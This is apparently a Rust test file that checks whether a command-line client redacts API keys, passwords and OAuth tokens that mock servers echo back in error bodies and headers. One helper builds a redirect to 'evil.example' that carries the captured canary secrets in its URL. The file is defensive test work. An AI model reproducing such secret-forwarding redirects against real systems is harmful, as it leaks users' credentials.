//! Servers that quote requests in their errors, which often end in bug reports.

use serde_json::{Value, json};
use url::form_urlencoded;

use super::{LOG_OPTIONS, set_log_variables};
use crate::support::{
    scripted_server::{
        AuthorizationServerScript, ReceivedRequest, ScriptedResponse, ScriptedServer,
    },
    test_home::TestHome,
};

const KEY: &str = "key-c4n4ry-0123456789";
const PASSWORD: &str = "pass c4n4ry\"word";

/// Quotes everything in a request that may be secret.
fn quoting(status: u16, received: &ReceivedRequest) -> ScriptedResponse {
    let headers = ["authorization", "x-api-key", "cookie"];
    let mut words: Vec<String> = headers
        .iter()
        .filter_map(|name| received.header(name))
        .map(ToOwned::to_owned)
        .collect();
    let form = serde_urlencoded::from_str::<Vec<(String, String)>>(&received.body);
    words.extend(form.into_iter().flatten().map(|(_, value)| value));
    if let Ok(Value::Object(members)) = serde_json::from_str(&received.body) {
        words.extend(
            members
                .values()
                .filter_map(Value::as_str)
                .map(ToOwned::to_owned),
        );
    }
    words.retain(|word| word.contains("c4n4ry"));
    let message = format!("I do not know \u{0}{}", words.join(" or "));
    let header = message.replace('\u{0}', "");
    let body = json!({
        "error": message, "error_description": message, "message": message, "code": message, "detail": message,
        "errors": [message], "fields": [message], "error_codes": [message], "meta": { "request_id": message },
    });
    ScriptedResponse::json(status, &body)
        .header("x-request-id", &header)
        .header("retry-after", &header)
        .header("www-authenticate", &header)
        .header(
            "location",
            &format!(
                "https://evil.example/{}",
                form_urlencoded::byte_serialize(words.join(" ").as_bytes()).collect::<String>()
            ),
        )
}

const STATUSES: [u16; 7] = [302, 400, 401, 403, 404, 422, 500];

#[test]
#[ignore = "slow: run by ./tests/run"]
fn keys_and_passwords_quoted_by_a_service_are_redacted() {
    for status in STATUSES {
        let server = ScriptedServer::start(move |received, _| quoting(status, received));
        let mut home = TestHome::new();
        home.set("BRAINMAPS_API_URL", &server.url);
        // Stored directly, because the server rejects everything.
        let home = set_log_variables(&mut home);
        let mut commands: Vec<(&[&str], &str)> = vec![
            (&["login", "--with-token", "--no-verify"], KEY),
            (
                &["login", "--username", "me@a.b", "--password-stdin"],
                PASSWORD,
            ),
        ];
        let signed_in: [&[&str]; 5] = [
            &["whoami"],
            &["token", "list"],
            &["token", "create", "ci"],
            &["token", "revoke", "1", "--yes"],
            &["logout"],
        ];
        commands.extend(signed_in.map(|command| (command, "")));
        for (command, input) in commands {
            for options in LOG_OPTIONS {
                let arguments = [command, options].concat();
                let mut program = home.command(&arguments);
                program.env("BRAINMAPS_API_KEY", KEY);
                let outcome = home.start_command(&mut program, &arguments, input).wait();
                assert_ne!(outcome.code, Some(2), "{outcome}");
                assert!(!outcome.stderr.contains("has a defect"), "{outcome}");
            }
        }
        assert!(server.received().len() >= 6, "{:?}", server.received());
    }
}

#[test]
#[ignore = "slow: run by ./tests/run"]
fn codes_and_tokens_quoted_by_an_authorization_server_are_redacted() {
    for status in STATUSES {
        let server = AuthorizationServerScript {
            token: Box::new(move |received| {
                if received.body.contains("device_code") && status != 422 {
                    return ScriptedResponse::json(
                        200,
                        &crate::support::scripted_server::token_response(),
                    );
                }
                quoting(status, received)
            }),
            other: Box::new(move |received| quoting(status, received)),
            ..AuthorizationServerScript::default()
        };
        let server = server.serve();
        let mut home = TestHome::new();
        let home = set_log_variables(&mut home);
        let issuer = [
            "--issuer",
            &server.url,
            "--client-id",
            "native",
            "--no-browser",
        ];
        let login = [&["login", "--device"], issuer.as_slice()].concat();
        for command in [
            login.as_slice(),
            &["credential", "refresh", "--force"],
            &["logout"],
        ] {
            for options in LOG_OPTIONS {
                let arguments = [command, options].concat();
                let outcome = home.run(&arguments);
                assert!(!outcome.stderr.contains("has a defect"), "{outcome}");
            }
        }
        assert!(server.count("/token") >= 2, "{:?}", server.received());
    }
}

#[test]
fn a_key_quoted_as_account_name_is_redacted() {
    let server = ScriptedServer::start(|_, _| {
        ScriptedResponse::json(200, &json!({ "email": format!("me ({KEY})"), "id": 1 }))
    });
    let mut home = TestHome::new();
    home.set("BRAINMAPS_API_KEY", KEY)
        .set("BRAINMAPS_API_URL", &server.url);
    for options in LOG_OPTIONS {
        let outcome = home.run(&[&["whoami"], *options].concat()).expect(0);
        assert!(outcome.stdout.contains("me ([secret])"), "{outcome}");
    }
}
